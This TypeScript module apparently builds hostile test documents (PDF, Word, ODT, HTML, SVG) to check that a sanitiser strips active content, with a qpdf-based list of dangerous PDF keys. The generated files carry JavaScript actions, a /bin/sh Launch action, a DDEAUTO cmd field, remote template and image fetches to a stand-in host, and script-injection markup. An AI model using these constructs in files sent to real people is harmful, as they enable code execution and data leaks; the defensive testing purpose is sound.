import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { storedZip } from './stored-zip';

/** Nobody's address: a request to it is noticed by whoever watches. */
const elsewhere = 'https://elsewhere.example';
const script = `window.injected = true; app.alert('x'); app.launchURL('${elsewhere}/js'); this.submitForm('${elsewhere}/form')`;

/** A PDF that would do everything that PDFs can do to whoever opens, scrolls, prints or closes them. `words` stand on its one page. */
export async function hostilePdf(words: string): Promise<Buffer> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const page = document.addPage([595.28, 841.89]);
  page.drawText(words, { x: 60, y: 700, size: 14, font: await document.embedFont(StandardFonts.Helvetica) });
  const js = context.register(context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(script) }));
  const launch = context.register(
    context.obj({ S: 'Launch', F: PDFString.of('/bin/sh'), NewWindow: true, Next: js }),
  );
  const uri = context.register(context.obj({ S: 'URI', URI: PDFString.of(`${elsewhere}/uri`) }));
  const submit = context.register(
    context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(`${elsewhere}/submit`) }, Flags: 4 }),
  );
  const remote = context.register(
    context.obj({ S: 'GoToR', F: PDFString.of('\\\\elsewhere.example\\share\\x.pdf'), D: [0, 'Fit'] }),
  );
  document.addJavaScript('at opening', script);
  catalog.set(PDFName.of('OpenAction'), launch);
  catalog.set(PDFName.of('AA'), context.obj({ WC: js, WP: js, DP: launch, WS: js }));
  page.node.set(PDFName.of('AA'), context.obj({ O: js, C: launch }));
  await document.attach(Buffer.from(`<script>${script}</script>`), 'payload.html', { mimeType: 'text/html' });
  const rectangles = [uri, submit, remote, launch, js].map((action, index) =>
    context.register(
      context.obj({
        ...{ Type: 'Annot', Subtype: 'Link', Rect: [60, 600 - index * 30, 300, 620 - index * 30] },
        ...{ A: action, AA: { E: js, PO: js, PV: launch } },
      }),
    ),
  );
  const field = context.register(
    context.obj({
      ...{ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('name'), V: PDFString.of('x') },
      ...{ Rect: [60, 300, 300, 330], AA: { K: js, F: js, V: js, C: js, Fo: js } },
    }),
  );
  page.node.set(PDFName.of('Annots'), PDFArray.withContext(context));
  const annotations = page.node.lookup(PDFName.of('Annots'), PDFArray);
  [...rectangles, field].forEach((reference) => annotations.push(reference));
  const xfa = context.register(
    context.stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event></subform></template></xdp:xdp>`,
    ),
  );
  catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field], XFA: xfa, NeedAppearances: true }));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

const run = promisify(execFile);

/** Every object of a PDF, as qpdf lists them. */
export async function qpdfObjects(file: string): Promise<string> {
  return (await run('qpdf', ['--json', file], { maxBuffer: 512 * 1024 * 1024 })).stdout;
}

/** What of that a PDF still holds, by qpdf's own list of its objects (`qpdf --json`). */
export function dangerousParts(qpdfJson: string): string[] {
  const parts = [
    ...['JavaScript', 'JS', 'Launch', 'EmbeddedFile', 'EmbeddedFiles', 'Filespec', 'OpenAction', 'AA', 'URI'],
    ...[
      'SubmitForm',
      'ImportData',
      'GoToR',
      'GoToE',
      'XFA',
      'AcroForm',
      'RichMedia',
      'Rendition',
      'Movie',
      'Sound',
    ],
  ];
  return parts.filter((part) => qpdfJson.includes(`"/${part}"`));
}

const types = {
  word: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
  package: 'http://schemas.openxmlformats.org/package/2006',
};

/** A Word file that would fetch a picture, a template and a page, holds an OLE object and HTML, and links to a script. */
export function hostileWord(words: string): Buffer {
  const entries: [string, string | Buffer][] = [];
  entries.push([
    '[Content_Types].xml',
    `<?xml version="1.0"?><Types xmlns="${types.package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default Extension="htm" ContentType="text/html"/><Default Extension="svg" ContentType="image/svg+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  ]);
  entries.push([
    '_rels/.rels',
    relationships(relationship('main', 'officeDocument', 'word/document.xml', false)),
  ]);
  entries.push([
    'word/_rels/document.xml.rels',
    relationships(
      ...[
        relationship('picture', 'image', `${elsewhere}/picture.png`),
        relationship('drawing', 'image', 'media/drawing.svg', false),
        relationship('link', 'hyperlink', `javascript:${script}`),
        relationship('far', 'hyperlink', `${elsewhere}/link`),
        relationship('chunk', 'aFChunk', 'chunk.htm', false),
        relationship('ole', 'oleObject', 'embeddings/object.bin', false),
        relationship('template', 'attachedTemplate', `${elsewhere}/template.dotm`),
        relationship('frame', 'frame', `${elsewhere}/frame.html`),
      ],
    ),
  ]);
  entries.push(['word/chunk.htm', `<script>${script}</script><img src=x onerror="window.injected=true">`]);
  entries.push(['word/embeddings/object.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')]);
  entries.push([
    'word/media/drawing.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="window.injected=true"><script>${script}</script></svg>`,
  ]);
  const picture = (id: string, how: 'embed' | 'link') =>
    `<w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x" descr="&lt;img src=x onerror=window.injected=true&gt;"/></pic:nvPicPr><pic:blipFill><a:blip r:${how}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
  entries.push([
    'word/document.xml',
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${types.word}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>` +
      `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>` +
      `<w:p><w:r><w:t>&lt;img src=x onerror="window.injected=true"&gt;&lt;/p&gt;&lt;script&gt;window.injected=true&lt;/script&gt;</w:t></w:r></w:p>` +
      `<w:p><w:hyperlink r:id="link"><w:r><w:t>press here</w:t></w:r></w:hyperlink><w:hyperlink r:id="far"><w:r><w:t>or here</w:t></w:r></w:hyperlink></w:p>` +
      `<w:p>${picture('picture', 'link')}${picture('drawing', 'embed')}</w:p>` +
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "${elsewhere}/field.png" \\d</w:instrText></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
      `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="ole"/></w:object></w:r></w:p><w:altChunk r:id="chunk"/></w:body></w:document>`,
  ]);
  return storedZip(entries);
}

/** An OpenDocument text with a picture from elsewhere, a link to a script, and a script of its own. */
export function hostileOdt(words: string): Buffer {
  const entries: [string, string][] = [];
  entries.push(['mimetype', 'application/vnd.oasis.opendocument.text']);
  entries.push([
    'content.xml',
    `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:script script:language="JavaScript">${script}</office:script></office:scripts><office:body><office:text><text:p>${words}</text:p><text:p>&lt;svg onload=window.injected=true&gt;</text:p><text:p><text:a xlink:href="javascript:${script}">press here</text:a><draw:frame><draw:image xlink:href="${elsewhere}/picture.png"/></draw:frame><draw:frame><draw:object-ole xlink:href="./x"/></draw:frame></text:p></office:text></office:body></office:document-content>`,
  ]);
  entries.push(['META-INF/manifest.xml', '<manifest/>']);
  return storedZip(entries);
}

/** A web page and a drawing, both with scripts, and both again under the names of other things. */
export function hostilePages(words: string): ReadonlyMap<string, string> {
  const page = `<!doctype html><html><body onload="window.injected=true"><script>${script}</script><img src="${elsewhere}/page.png" onerror="window.injected=true">${words}</body></html>`;
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.injected=true"><script>${script}</script><image href="${elsewhere}/svg.png"/><text>${words}</text></svg>`;
  return new Map([
    ['page.html', page],
    ['drawing.svg', drawing],
    ['page as text.txt', page],
    ['page as picture.png', page],
    ['drawing as picture.jpg', drawing],
    ['drawing as report.pdf', drawing],
    ['page as Word.docx', page],
  ]);
}

function relationship(id: string, type: string, target: string, isExternal = true): string {
  const safe = target.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  return `<Relationship Id="${id}" Type="${types.word}/${type}" Target="${safe}"${isExternal ? ' TargetMode="External"' : ''}/>`;
}

function relationships(...all: readonly string[]): string {
  return `<?xml version="1.0"?><Relationships xmlns="${types.package}/relationships">${all.join('')}</Relationships>`;
}
